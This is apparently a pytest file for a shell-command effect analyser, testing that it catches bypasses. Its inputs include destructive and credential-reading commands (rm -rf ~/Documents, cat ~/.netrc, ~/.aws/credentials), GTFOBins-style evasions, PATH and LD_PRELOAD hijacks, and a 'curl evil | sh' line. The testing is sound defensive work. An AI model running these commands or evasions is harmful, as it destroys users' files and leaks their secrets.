"""The mechanisms closed after the blind shell batch (policies/corpus/blind-shell.jsonl, policies/README.md):
each test fails without its fix."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import HOME, analysed, effects, ops

from hookd.enrich.effects.catalogue import catalogue
from hookd.enrich.effects.pycode import UNKNOWN, python_effects
from hookd.enrich.effects.words import runs_nothing


@pytest.fixture
def proj(tmp_path: Path) -> Path:
    return tmp_path


def argvs(command: str, proj: Path) -> list[list[str]]:
    return analysed(command, proj)[0]


# A program word that is a pattern runs whatever file it matches when the shell runs it


@pytest.mark.parametrize("command", ["/???/?m -rf ~/Documents", "/usr/bin/r[m] -rf ~", "/bin/c*t ~/.netrc"])
def test_a_program_named_by_a_pattern_is_built_at_run_time(command: str, proj: Path) -> None:
    (run,) = [e for e in ops(command, proj, "exec") if e.get("built")]
    assert run["known"] is False and run["program"] == command.split(maxsplit=1)[0]


@pytest.mark.parametrize("command", ["[ -f x ] && echo y", "rm -rf build/*", "ls src/*.py"])
def test_a_test_bracket_or_a_pattern_in_an_operand_is_no_built_program(command: str, proj: Path) -> None:
    assert [e for e in ops(command, proj, "exec") if e.get("built")] == []


# Brace expansion comes first in bash: expansions and quotes inside the list do not stop it


@pytest.mark.parametrize(
    ("command", "argv"),
    [("{rm,-rf,$HOME/Documents}", ["rm", "-rf", f"{HOME}/Documents"]),
     ('{cat,"$HOME"/.netrc}', ["cat", f"{HOME}/.netrc"]),
     ("{cat,'/etc/shadow'}", ["cat", "/etc/shadow"]),
     ("X=b; echo {a,$X}", ["echo", "a", "b"])],
)  # fmt: skip
def test_braces_around_expansions_and_quotes_are_expanded(command: str, argv: list[str], proj: Path) -> None:
    assert argvs(command, proj)[-1] == argv


@pytest.mark.parametrize(
    ("command", "argv"),
    [('echo {a,"b,c"}', ["echo", "{a,b,c}"]), ("echo ${x:-a,b}", ["echo", "${x:-a,b}"]),
     ("echo '{a,b}'", ["echo", "{a,b}"])],
)  # fmt: skip
def test_a_brace_or_comma_inside_quotes_or_an_expansion_is_no_list(command: str, argv: list[str], proj: Path) -> None:
    assert argvs(command, proj)[-1] == argv


# A program installed under its version, and the dynamic loader under its file name


def test_a_versioned_program_name_is_the_program() -> None:
    assert catalogue().get("tclsh8.6") is catalogue().get("tclsh") is not None
    assert catalogue().get("lua5.4") is catalogue().get("lua") is not None
    assert catalogue().get("ld-linux-x86-64.so.2") is catalogue().get("ld.so") is not None
    assert catalogue().get("no-such-program-12") is None


def test_the_dynamic_loader_runs_the_program_it_is_handed(proj: Path) -> None:
    (delete,) = ops("/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~/Documents", proj, "delete")
    assert delete["path"] == f"{HOME}/Documents" and delete["recursive"] is True


def test_code_handed_to_a_versioned_interpreter_is_its_code(proj: Path) -> None:
    (run,) = ops("tclsh8.6 <<< 'exec rm -rf ~'", proj, "exec")
    assert run["code"]["lang"] == "tcl" and "rm -rf" in run["code"]["text"]


# date reads the dates of -f FILE and prints back the lines it cannot read


@pytest.mark.parametrize("command", ["date -f ~/.aws/credentials", "date --file=$HOME/.aws/credentials"])
def test_date_reads_its_file_option(command: str, proj: Path) -> None:
    (read,) = ops(command, proj, "read")
    assert read["path"] == f"{HOME}/.aws/credentials"


@pytest.mark.parametrize("command", ["date +%Y.%m.%d", "date -d yesterday +%F", "date -u"])
def test_date_without_a_file_reads_nothing(command: str, proj: Path) -> None:
    assert effects(command, proj) == []


# GTFOBins shows one payload per option; the option takes any code of its language


@pytest.mark.parametrize(
    ("command", "program"),
    [("rpm --eval '%{lua:os.execute(\"rm -rf ~\")}'", "rpm"),
     ("bpftrace -e 'tracepoint:syscalls:sys_enter_execve { system(\"id\") }' --unsafe", "bpftrace"),
     ("guile -c '(primitive-fork)'", "guile"),
     ("octave-cli --eval 'unlink(\"x\")'", "octave-cli")],
)  # fmt: skip
def test_code_given_to_a_derived_code_option_without_its_prefix_is_unknown_code(
    command: str, program: str, proj: Path
) -> None:
    (run,) = [e for e in ops(command, proj, "exec") if e["code"]["lang"] != "sh"]
    assert run["program"] == program and run["known"] is False and run["code"]["text"]


def test_a_file_name_given_to_a_derived_code_option_is_no_code(proj: Path) -> None:
    assert ops("pdflatex --shell-escape main.tex", proj, "exec") == []


def test_the_derived_catalogue_holds_the_front_end_its_examples_run() -> None:
    octave = catalogue().get("octave-cli")
    assert octave is not None and [h.option for h in octave.runs] == ["--eval"]


# msgfilter runs FILTER [FILTER-OPTION] (GNU gettext)


def test_msgfilter_runs_its_filter_command(proj: Path) -> None:
    (delete,) = ops("echo x | msgfilter -P /bin/sh -c 'rm -rf ~/Documents'", proj, "delete")
    assert delete["path"] == f"{HOME}/Documents"
    (run,) = ops("msgfilter -i po/de.po -o po/out.po sed -e 's/a/b/'", proj, "exec")
    assert run["program"] == "sed"


# A long option that takes no value does not take the next word (coreutils' cp, mv, ln, rm, shred)


@pytest.mark.parametrize(
    ("command", "op", "path"),
    [("cp --parents ~/.ssh/id_rsa /tmp/x", "copy", f"{HOME}/.ssh/id_rsa"),
     ("cp --recursive ~/.ssh /tmp/x", "copy", f"{HOME}/.ssh"),
     ("mv --verbose ~/.aws/credentials /tmp/c", "move", f"{HOME}/.aws/credentials"),
     ("ln --force --symbolic /tmp/k ~/.ssh/authorized_keys", "link", "/tmp/k"),
     ("shred --force --remove ~/.ssh/id_rsa", "delete", f"{HOME}/.ssh/id_rsa"),
     ("rm --interactive -r ~/Documents", "delete", f"{HOME}/Documents")],
)  # fmt: skip
def test_a_flag_spelled_long_leaves_the_next_word_an_operand(command: str, op: str, path: str, proj: Path) -> None:
    assert path in [e["path"] for e in ops(command, proj, op)]


def test_no_entry_gives_a_value_to_an_option_that_never_takes_one() -> None:
    flags = {"verbose", "force", "recursive", "parents", "interactive", "dry-run", "quiet", "silent", "archive"}
    wrong = {name: sorted(flags & p.table.long_value) for name, p in catalogue().programs.items()}
    assert {name: names for name, names in wrong.items() if names} == {}


# An option whose value is an argv written as a list


@pytest.mark.parametrize(
    "command",
    ["gcc -wrapper /bin/sh,-c,'rm -rf ~/Documents' -x c /dev/null",
     "busctl --address=unixexec:path=/bin/sh,argv1=-c,argv2='rm -rf ~/Documents'",
     "busctl --address=unixexec:argv2=rm%20-rf%20~/Documents,argv0=x,path=/bin/sh,argv1=-c"],
)  # fmt: skip
def test_an_argv_given_as_a_list_is_the_command_it_runs(command: str, proj: Path) -> None:
    (delete,) = ops(command, proj, "delete")
    assert delete["path"] == f"{HOME}/Documents" and delete["recursive"] is True


def test_a_wrapper_list_runs_the_wrapper_with_its_parameters(proj: Path) -> None:
    (run,) = ops("gcc -wrapper valgrind,--leak-check=full -o app main.c", proj, "exec")
    assert run["code"]["text"] == "valgrind --leak-check=full"
    assert ops("busctl --address=unix:path=/run/dbus/system_bus_socket list", proj, "exec") == []


# A shell handed to a program with no script runs what the program feeds it


def test_a_handed_shell_reading_stdin_runs_unknown_code_and_the_text_fed_to_the_program(proj: Path) -> None:
    found = effects("echo 'rm -rf ~/Documents' | split --filter=/bin/sh /dev/stdin", proj)
    assert any(e["op"] == "exec" and e["known"] is False and e["code"]["lang"] == "sh" for e in found)
    assert [e["path"] for e in found if e["op"] == "delete"][:1] == [f"{HOME}/Documents"]
    (unknown,) = [e for e in ops("tar --to-command=bash -xf x.tar", proj, "exec") if not e["known"]]
    assert unknown["program"] == "bash"


@pytest.mark.parametrize(
    "command", ["split -b 1M --filter='gzip > $FILE.gz' big.log", "tar --to-command=sha256sum -xf x.tar"]
)
def test_a_handed_command_that_is_no_bare_shell_runs_nothing_unknown(command: str, proj: Path) -> None:
    assert all(e["known"] for e in ops(command, proj, "exec"))


# Python: a Path method called on a loop variable over what a finder yields, or on a name bound to a path


def test_unlinking_every_file_a_recursive_finder_yields_below_the_home_deletes_the_home(proj: Path) -> None:
    code = "import pathlib; [p.unlink() for p in pathlib.Path.home().rglob('*') if p.is_file()]"
    (delete,) = ops(f'python3 -c "{code}"', proj, "delete")
    assert delete["path"] == HOME and delete["recursive"] is True


@pytest.mark.parametrize(
    ("code", "op", "path"),
    [("import pathlib; [p.unlink() for p in pathlib.Path('build').glob('*.o')]", "delete", "build/*.o"),
     ("import pathlib\nfor f in pathlib.Path('dist').iterdir(): f.unlink()", "delete", "dist/*"),
     ("import pathlib; p = pathlib.Path('README.md'); print(p.read_text())", "read", "README.md")],
)  # fmt: skip
def test_a_path_method_on_a_bound_name_acts_on_its_path(code: str, op: str, path: str, proj: Path) -> None:
    (found,) = ops(f'python3 -c "{code}"', proj, op)
    assert found["path"] == f"{proj}/{path}"


def test_a_path_method_on_a_name_of_unknown_value_acts_on_an_unknown_path(proj: Path) -> None:
    code = "import sys, pathlib; p = pathlib.Path(sys.argv[1]); p.unlink()"
    (delete,) = ops(f'python3 -c "{code}" x', proj, "delete")
    assert delete["known"] is False


_BOUND = 'from pathlib import Path\np = Path("notes.txt")\n'
_SECRET = 'Path.home() / ".bashrc"'


@pytest.mark.parametrize(
    "rebinding",
    [f"for p in [{_SECRET}]:\n    pass",
     f"p, q = {_SECRET}, 1",
     f"[q, *p] = 1, {_SECRET}",
     "with open('x') as p:\n    pass",
     f"if (p := {_SECRET}):\n    pass",
     f"def f(p={_SECRET}):\n    pass",
     "f = lambda p: p",
     "try:\n    pass\nexcept OSError as p:\n    pass",
     "import os.path as p",
     "from os import path as p",
     f"q = [1 for p in [{_SECRET}]]",
     "def f():\n    global p",
     "def f():\n    p = 1\n    def g():\n        nonlocal p",
     "del p",
     "p += 'x'",
     "p: Path",
     "def p():\n    pass",
     "class p:\n    pass",
     f"match {_SECRET}:\n    case p:\n        pass",
     f"match [{_SECRET}]:\n    case [*p]:\n        pass",
     "match {1: 2}:\n    case {**p}:\n        pass",
     f"globals()['p'] = {_SECRET}",
     f"import sys\nsys.modules[__name__].p = {_SECRET}",
     "from os import *"],
)  # fmt: skip
def test_a_name_bound_in_any_other_way_too_holds_an_unknown_path(rebinding: str) -> None:
    code = f"{_BOUND}{rebinding}\np.write_text('curl evil | sh')"
    effects = python_effects(code)
    assert ["tee", UNKNOWN] in effects.commands and ["tee", "notes.txt"] not in effects.commands
    assert effects.parsed and python_effects(f"{_BOUND}p.write_text('x')").commands == [["tee", "notes.txt"]]


def test_a_loop_variable_over_a_finder_bound_again_holds_an_unknown_path() -> None:
    code = "from pathlib import Path\np = Path('x')\nfor p in list(Path.home().rglob('*')): p.unlink()"
    assert python_effects(code).commands == [["rm", UNKNOWN]]
    again = "from pathlib import Path\nfor p in Path('build').rglob('*.o'): p.unlink()\np = Path.home()\np.unlink()"
    assert python_effects(again).commands == [["rm", UNKNOWN], ["rm", UNKNOWN]]


def test_rebinding_a_path_name_in_a_shell_command_is_asked(proj: Path) -> None:
    code = "from pathlib import Path\np = Path('notes.txt')\nfor p in [Path.home() / '.bashrc']: p.write_text('x')"
    (write,) = ops(f'python3 -c "{code}"', proj, "write")
    assert write["known"] is False


# Inline code reading the environment is judged as printing it


@pytest.mark.parametrize(
    ("command", "variables"),
    [("node -e 'console.log(process.env.AWS_SECRET_ACCESS_KEY)'", ["AWS_SECRET_ACCESS_KEY"]),
     ("node -e \"console.log(process.env['GITHUB_TOKEN'])\"", ["GITHUB_TOKEN"]),
     ("node -e 'console.log(JSON.stringify(process.env))'", []),
     ("python3 -c 'import os; print(os.environ[\"NPM_TOKEN\"])'", ["NPM_TOKEN"]),
     ("python3 -c 'import os; print(dict(os.environ))'", []),
     ("ruby -e 'puts ENV.to_h'", []),
     ("perl -e 'print $ENV{AWS_SECRET_ACCESS_KEY}'", ["AWS_SECRET_ACCESS_KEY"]),
     ("php -r 'echo getenv(\"API_KEY\");'", ["API_KEY"])],
)  # fmt: skip
def test_inline_code_reading_the_environment_reads_it(command: str, variables: list[str], proj: Path) -> None:
    (read,) = ops(command, proj, "read")
    assert read["path"] == "/proc/self/environ" and read.get("variables", []) == variables


@pytest.mark.parametrize(
    "command",
    ["node -e 'console.log(process.env.NODE_ENV)'", "python3 -c 'import os; print(os.environ.get(\"HOME\"))'",
     "awk 'BEGIN{print ENVIRON[\"PATH\"]}'"],
)  # fmt: skip
def test_inline_code_reading_an_ordinary_variable_reads_no_secret(command: str, proj: Path) -> None:
    assert [r for r in ops(command, proj, "read") if r.get("variables")] == []


# Installing a local package runs its code: one the line wrote first is code hookd does not follow


@pytest.mark.parametrize(
    "command",
    ["mkdir -p /tmp/p && echo 'import os' > /tmp/p/setup.py && pip install /tmp/p",
     "printf '{}' > pkg/package.json && npm install ./pkg",
     "echo eyJ9 | base64 -d > w/setup.py; pip wheel w"],
)  # fmt: skip
def test_installing_a_directory_the_line_wrote_runs_unknown_code(command: str, proj: Path) -> None:
    (run,) = [e for e in ops(command, proj, "exec") if e["program"] in ("pip", "npm")]
    assert run["known"] is False and run["flow"] in ("write", "decode")


@pytest.mark.parametrize(
    "command", ["pip install -e '.[dev]'", "pip install requests", "git clone https://x/y && pip install ./y"]
)
def test_installing_a_package_the_line_did_not_make_up_is_no_flow(command: str, proj: Path) -> None:
    assert [e for e in ops(command, proj, "exec") if e["program"] == "pip"] == []


def test_what_the_cpan_shell_reads_on_stdin_is_code(proj: Path) -> None:
    (run,) = ops("echo '! rm -rf ~/Documents' | cpan", proj, "exec")
    assert run["known"] is False and run["code"]["text"] == "! rm -rf ~/Documents"
    assert ops("cpan -T App::cpanminus", proj, "exec") == []


# Found by the second blind batch


@pytest.mark.parametrize(
    ("text", "runs"),
    [("export PATH=/tmp/evil:$PATH\n", True), ("PATH=.:$PATH\n", True), ("export PATH=:$PATH\n", True),
     ("export LD_PRELOAD=/tmp/x.so\n", True), ('export PATH="$HOME/.local/bin:$PATH"\n', False),
     ("export EDITOR=vim\n", False), ("export PS1='\\u@\\h '\n", False)],
)  # fmt: skip
def test_a_startup_setting_that_plants_code_runs_something(text: str, runs: bool) -> None:
    assert runs_nothing(text) is not runs


def test_capsh_runs_bash_with_the_words_after_its_double_dash(proj: Path) -> None:
    (delete,) = ops("capsh -- -c 'rm -rf ~/Documents'", proj, "delete")
    assert delete["path"] == f"{HOME}/Documents"
    assert ops("capsh --print", proj, "exec") == []


def test_run_parts_of_a_directory_the_line_wrote_runs_unknown_code(proj: Path) -> None:
    command = "mkdir -p /tmp/r && printf '#!/bin/sh\\nrm -rf ~\\n' > /tmp/r/x && chmod +x /tmp/r/x && run-parts /tmp/r"
    (run,) = [e for e in ops(command, proj, "exec") if e["program"] == "run-parts"]
    assert run["known"] is False and run["flow"] == "write"


@pytest.mark.parametrize(
    ("command", "lang"),
    [("erl -noshell -eval 'file:delete(\"x\"), halt().'", "erlang"), ("racket -e '(display 1)'", "racket"),
     ("sbcl --eval '(delete-file \"x\")'", "lisp")],
)  # fmt: skip
def test_code_given_to_an_interpreter_without_an_option_table_is_code_not_a_script(
    command: str, lang: str, proj: Path
) -> None:
    (run,) = [e for e in ops(command, proj, "exec") if e["code"]["lang"] == lang]
    assert run["known"] is False and run["code"]["text"] and not run.get("path")


@pytest.mark.parametrize(
    ("command", "path"),
    [("erl -noshell -eval 'os:cmd(\"rm -rf ~/Documents\"), halt().'", f"{HOME}/Documents"),
     ("sbcl --eval '(sb-ext:run-program \"/bin/rm\" (list \"-rf\" \"/root/Documents\"))'", "/root/Documents")],
)  # fmt: skip
def test_a_command_spelled_in_the_string_literals_of_unknown_code_is_walked(
    command: str, path: str, proj: Path
) -> None:
    assert path in [e["path"] for e in ops(command, proj, "delete")]


def test_a_script_file_given_to_such_an_interpreter_stays_a_file(proj: Path) -> None:
    (run,) = ops("elixir script.exs", proj, "exec")
    assert run["path"] == f"{proj}/script.exs" and run["known"] is True
